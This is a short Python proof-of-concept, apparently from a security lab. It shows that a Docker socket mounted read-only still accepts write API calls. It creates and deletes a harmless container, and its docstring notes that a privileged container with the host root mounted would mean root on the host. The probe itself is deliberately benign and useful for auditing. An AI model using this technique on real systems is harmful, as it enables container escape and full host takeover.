"""Run inside a container that mounts /var/run/docker.sock READ-ONLY: use the engine's write API anyway.

Creates (then deletes) a stopped, network-less container named argv[1]: had the body asked for
Privileged and a bind of "/", that would be root on the host. Prints the HTTP statuses as JSON.
"""

from __future__ import annotations

import json
import socket
import sys

SOCK = "/var/run/docker.sock"


def call(method: str, path: str, body: dict[str, object] | None = None) -> int:
    data = json.dumps(body).encode() if body is not None else b""
    head = f"{method} {path} HTTP/1.1\r\nHost: docker\r\nConnection: close\r\nContent-Length: {len(data)}\r\n"
    if body is not None:
        head += "Content-Type: application/json\r\n"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(30)
    s.connect(SOCK)
    s.sendall(head.encode() + b"\r\n" + data)
    reply = s.recv(65536).decode(errors="replace")
    s.close()
    return int(reply.split(" ", 2)[1])


name = sys.argv[1]
created = call("POST", f"/v1.41/containers/create?name={name}",
               {"Image": "dogbank/busybox:local", "Cmd": ["true"], "HostConfig": {"NetworkMode": "none"}})
deleted = call("DELETE", f"/v1.41/containers/{name}?force=1")
print(json.dumps({"create": created, "delete": deleted}))
